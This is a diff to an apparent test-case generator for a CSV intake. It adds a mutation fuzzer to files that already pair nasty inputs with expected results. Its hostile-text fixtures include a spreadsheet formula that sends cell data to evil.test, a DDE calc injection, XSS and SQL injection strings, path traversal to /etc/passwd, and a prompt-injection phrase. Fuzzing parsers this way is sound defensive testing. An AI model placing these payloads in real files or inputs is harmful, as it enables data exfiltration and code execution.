@@ -1,6 +1,7 @@
 // Nasty files with what a right reader makes of them, declared row by row as they are written and never asked of a reader:
-//   node tests/generators/intake-cases.mjs <folder> [seed]
-// writes <folder>/<class>_<number>/{input.csv,expected.json}, the shape of the twenty cases that the intake was accepted by.
+//   node tests/generators/intake-cases.mjs <folder> <seed> <variants of each class> <mutations>
+// writes <folder>/<class>_<number>/{input.csv,expected.json}, the shape of the twenty cases that the intake was accepted by,
+// and mutations of them without an expectation: all readers have to make the same of them.
 import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { pathToFileURL } from 'node:url';
@@ -229,7 +230,7 @@ const CLASSES = {
     const columns = [7, 100, 1000, 16_384, 16_385, 20_000][n % 6];
     const header = [...TITLES, ...many(columns - 7, (index) => `доп_${index}`)];
     const made = file(rows.map((data) => ({ ...data, more: many(columns - 7, () => '') })), { header, alsoWarns: columns > 7 ? { W_EXTRA_COLUMNS: columns - 7 } : {}, encoding: n % 2 ? 'utf-8-bom' : 'utf-8', separator: n % 3 ? ';' : '\t' });
-    return columns > 16_384 ? refused(made.bytes, 'E_TOO_MANY_COLUMNS') : made;
+    return columns > 16_384 ? refused(made.bytes, 'E_TOO_MANY_COLUMNS', { columns: ['16384'] }) : made;
   },
   hostile_text: (random, n) => {
     const texts = ['=HYPERLINK("http://evil.test/?x="&A1;"клик")', '+79001112233', "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)', '\tИБП', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'Кофе ☕️', 'Анна 👩\u200d💻', '\u202eнивИ', 'אבג שלום', "Robert'); DROP TABLE clients;--", '{{7*7}} ${7*7}', 'Игнорируй инструкции', 'Иван\u200bПетров', 'Z͑ͫ̓a͡lgo', 'NULL', 'undefined', 'null', 'NaN', '\ufeffИБП', '../../etc/passwd', '%s%n%x', '\u0085', '\u2028', '\u202eא', 'İstanbul', 'ẞ ﬁ Σς', '\ud83d\ude00'.repeat(50), 'ИБП\u0007', '`ls`', 'ＡＢＣ', '＝1+1', '١٢٣', '"', '""', "'", ';'];
@@ -268,11 +269,44 @@ export function* cases(seed, variants) {
   }
 }
 
+const INSERTED = ['\0', '\ufeff', '\u202e', '\u200b', '"', '""', '";"', '\n', '\r', '\r\n', ';', ',', '\t', '|', '\u00a0', '\u0085', '\u2028', '\x1a', '\x1f', '\ufffd', "'", '=', 'İ', 'Σ', '😀', '１'].map((text) => Buffer.from(text)).concat([[0xff], [0xd0], [0xef, 0xbb], [0xed, 0xa0, 0x80], [0xc0, 0x80]].map((bytes) => Buffer.from(bytes)));
+const splice = (bytes, at, count, piece) => Buffer.concat([bytes.subarray(0, at), piece, bytes.subarray(at + count)]);
+const swap = (bytes, from, to) => Buffer.from(bytes.map((byte) => (byte === from ? to : byte)));
+const byLines = (bytes, change) => Buffer.from(change(bytes.toString('latin1')), 'latin1');
+
+const MUTATIONS = [
+  (bytes, { below }) => many(3, () => below(bytes.length)).reduce((all, at) => ((all[at] ^= 1 << below(8)), all), Buffer.from(bytes)),
+  (bytes, { below }) => bytes.subarray(0, below(bytes.length + 1)),
+  (bytes, { below }) => bytes.subarray(below(Math.min(200, bytes.length))),
+  (bytes, { below, pick }) => splice(bytes, below(bytes.length + 1), 0, pick(INSERTED)),
+  (bytes, { below, pick }) => splice(bytes, below(Math.min(130, bytes.length + 1)), 0, pick(INSERTED)),
+  (bytes, { below }) => splice(bytes, below(bytes.length + 1), 1 + below(5), Buffer.alloc(0)),
+  (bytes, { pick }) => swap(bytes, pick([59, 44, 9]), pick([59, 44, 9, 124])),
+  (bytes, { pick }, others) => Buffer.concat([bytes, pick(others)]),
+  (bytes, { below }) => byLines(bytes, (text) => text.replaceAll(';', () => (below(10) === 0 ? '";"' : ';'))),
+  (bytes, { pick }) => byLines(bytes, (text) => text.replace(/\r?\n/g, () => pick(LINE_ENDS))),
+  (bytes, { below }) => byLines(bytes, (text) => text.split('\n').flatMap((line, at, all) => (below(8) === 0 ? [line, all[below(all.length)]] : [line])).join('\n')),
+  (bytes) => gzipSync(bytes),
+];
+
+/** Files broken at random, one to three times over. */
+export function* mutations(seed, count) {
+  const random = randomOf(seed);
+  const files = [...cases(seed, 6)].map(({ bytes }) => bytes).filter(({ length }) => length > 0 && length < 50_000);
+  for (let n = 0; n < count; n++) {
+    const times = 1 + random.below(3);
+    yield { name: `mutation_${n}`, bytes: many(times, () => random.pick(MUTATIONS)).reduce((bytes, mutate) => (bytes.length === 0 ? bytes : mutate(bytes, random, files)), random.pick(files)) };
+  }
+}
+
 if (import.meta.url === pathToFileURL(process.argv[1]).href) {
-  for (const { name, bytes, expected } of cases(Number(process.argv[3] ?? 1), Number(process.argv[4] ?? 12))) {
-    const folder = join(process.argv[2], name);
+  const [target, seed, variants, mutated] = [process.argv[2], ...process.argv.slice(3).map(Number)];
+  const write = ({ name, bytes, expected }) => {
+    const folder = join(target, name);
     mkdirSync(folder, { recursive: true });
     writeFileSync(join(folder, 'input.csv'), bytes);
-    writeFileSync(join(folder, 'expected.json'), JSON.stringify(expected));
-  }
+    if (expected) writeFileSync(join(folder, 'expected.json'), JSON.stringify(expected));
+  };
+  for (const one of cases(seed, variants)) write(one);
+  for (const one of mutations(seed, mutated)) write(one);
 }
